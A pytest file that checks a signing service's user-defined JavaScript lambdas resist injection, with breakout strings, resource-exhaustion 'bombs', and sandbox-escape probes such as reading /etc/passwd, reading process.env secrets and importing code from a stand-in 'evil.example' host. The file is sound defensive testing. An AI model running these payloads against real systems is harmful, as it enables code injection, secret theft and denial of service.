"""Class 17 of the known attacks, through the door: what a stranger sends to a lambda stays data.

Seen in authentik as CVE-2026-25227. `test_class_17_lambdas.py` attacks the locked process itself.
"""

import time
from dataclasses import replace
from typing import Any

import pytest

from accounts.models import KeySignature, LambdaExecution
from invitations.services import lambda_runs
from tests import cast, lambdas
from tests.attacks.test_class_17_lambdas import PATIENCE, cells
from tests.faces.passport import people
from tests.faces.passport.client import Answer, Client

pytestmark = pytest.mark.django_db(transaction=True)

BREAKING_OUT = (
    "') || true || ('",
    "' || true //",
    "'); return true; ('",
    "`); return true; (`",
    "${(() => true)()}",
    '" || true || "',
    "\\') || true //",
    "\n return true //",
    "\u2028return true//",
    "*/ return true /*",
    "</script><script>return true",
    "<<inputs.0>>",
    "<<envs.0>>",
    "$given.envs[0]",
    "{{ 7 * 7 }}{% debug %}",
    "__import__('os').environ",
    "constructor.constructor('return true')()",
)
# Each is met by the word in `envs` alone.
DOORS = (
    "return '<<inputs.0>>' === <<envs.0>>",
    'return "<<inputs.0>>" === <<envs.0>>',
    "return `<<inputs.0>>` === <<envs.0>>",
    "return <<inputs.0>> === <<envs.0>>",
    "const asked = '<<inputs.0>>'; return asked.length > 3 && asked === '<<envs.0>>'",
    "/* <<inputs.0>> */ return <<inputs.0>> === <<envs.0>> // <<inputs.0>>",
    "return ['<<inputs.0>>'].includes(<<envs.0>>)",
)


@pytest.fixture
def world() -> cast.World:
    world = cast.world()
    people.welcome(world)
    lambdas.turn_on(world)
    return world


@pytest.fixture
def alice(world: cast.World) -> Client:
    person = people.registered(world)
    return replace(person.client, proof=person.enter())


@pytest.fixture
def calm(monkeypatch: pytest.MonkeyPatch) -> None:
    """A busy machine may need longer than a server grants."""
    monkeypatch.setattr(lambda_runs, "BOUNDS", lambdas.CALM)
    monkeypatch.setattr(lambda_runs, "MOST_BY_ADDRESS", 10_000)
    monkeypatch.setattr(lambda_runs, "MOST_OF_LAMBDA", 10_000)


def stored(alice: Client, *parts: dict[str, Any], **more: Any) -> str:
    given = lambdas.config(*parts, authorization=lambdas.ANYBODY, **more)
    return str(alice.call("createLambda", {"data": given}).result)


def execute(world: cast.World, named: str, *params: Any) -> Answer:
    given = {"data": {"id": named, "params": list(params)}}
    return Client(world).call("executeLambda", given)


@pytest.mark.parametrize("door", DOORS)
def test_no_value_becomes_code(calm: None, world: cast.World, alice: Client, door: str) -> None:
    named = stored(alice, lambdas.code(door), envs=["open sesame"])
    assert execute(world, named, "open sesame").result.startswith("0x")
    for value in BREAKING_OUT:
        assert execute(world, named, value).body.get("result") == "Condition not met", value
    with cast.in_scope(world):
        assert KeySignature.objects.count() == 1


def test_no_value_changes_what_kind_of_message_is_signed(
    calm: None, world: cast.World, alice: Client
) -> None:
    named = stored(alice, data="0x00<<inputs.0>>")
    for value in (*BREAKING_OUT, "0", "zz", "0x0", 7, None, ["00"], {"output": "00"}, "00\n"):
        assert execute(world, named, value).error["data"] == "lambda.failed", value
    with cast.in_scope(world):
        assert not KeySignature.objects.exists()


def test_an_object_brings_no_prototype_along(calm: None, world: cast.World, alice: Client) -> None:
    named = stored(alice, lambdas.code("return ({}).is_open || <<inputs.0>>.is_open"))
    values: list[Any] = [{name: {"is_open": True}} for name in ("__proto__", "constructor")]
    for value in (*values, [], 7):
        answer = execute(world, named, value)
        assert "0x" not in str(answer.body.get("result", "")), value


@pytest.mark.parametrize(
    "code",
    [
        "for (;;);",
        "return /(a+)+$/.test('<<inputs.0>>' + 'a'.repeat(40) + 'b')",
        "const a = []; for (;;) a.push(new Uint8Array(1000000).fill(1))",
        "let s = 'x'; for (;;) s += s + s",
        "function f() { f(); } f()",
        "return 'x'.repeat(1000000)",
    ],
)
def test_a_bomb_ends_and_is_told_like_other_faults(
    world: cast.World, alice: Client, code: str
) -> None:
    named = stored(alice, lambdas.code(code, output_type="json"))
    begun = time.monotonic()
    answer = execute(world, named, "aaaa")
    assert time.monotonic() - begun < PATIENCE + 3
    assert (answer.error["code"], answer.error["data"]) == (-32602, "lambda.failed")
    assert cells() == []
    with cast.in_scope(world):
        [run] = LambdaExecution.objects.all()
        assert (run.outcome, run.reason) == ("failed", "lambda.failed")


def test_code_finds_no_server_around_it(calm: None, world: cast.World, alice: Client) -> None:
    words = ("process", "require", "Deno", "fetch", "XMLHttpRequest", "WebSocket", "import.meta")
    undefined = " && ".join(f"typeof {word} === 'undefined'" for word in words[:-1])
    assert execute(world, stored(alice, lambdas.code(f"return {undefined}"))).result[:2] == "0x"
    for code in (
        "return import.meta.url",
        "return (await import('fs')).readFileSync('/etc/passwd')",
        "return process.env.COUNTERSIGN_KEK",
        "return new Function('return this')().process.env",
        "import('https://evil.example/x.js'); throw 1",
    ):
        named = stored(alice, lambdas.code(code, output_type="json"))
        assert execute(world, named).error["data"] == "lambda.failed", code


def test_a_run_leaves_nothing_for_the_next_one(
    calm: None, world: cast.World, alice: Client
) -> None:
    left = stored(alice, lambdas.code("globalThis.left = <<inputs.0>>; return true"))
    found = stored(alice, lambdas.code("return typeof left !== 'undefined'"))
    assert execute(world, left, "secret").result.startswith("0x")
    assert execute(world, found).result == "Condition not met"


def test_nobody_runs_those_of_another_scope(calm: None, world: cast.World, alice: Client) -> None:
    named = stored(alice)
    other = cast.world()
    lambdas.turn_on(other)
    assert execute(other, named).error["data"] == "missing"
    with cast.in_scope(world):
        assert not LambdaExecution.objects.exists()


def test_nobody_makes_one_for_another(world: cast.World, alice: Client) -> None:
    people.registered(world, "bob")
    for more in ({"user": "bob"}, {"account": "bob"}, {"id": "x"}, {"status": "ready"}):
        answer = alice.call("createLambda", {"data": {**lambdas.config(), **more}})
        assert answer.error["data"] == "invalid"
    # Beside `data` nothing is read.
    given = {"data": lambdas.config(), "user": "bob", "lambda_id": "x"}
    assert alice.call("createLambda", given).result
    [row] = alice.call("listLambda", {}).result
    assert row["total_executions"] == 0
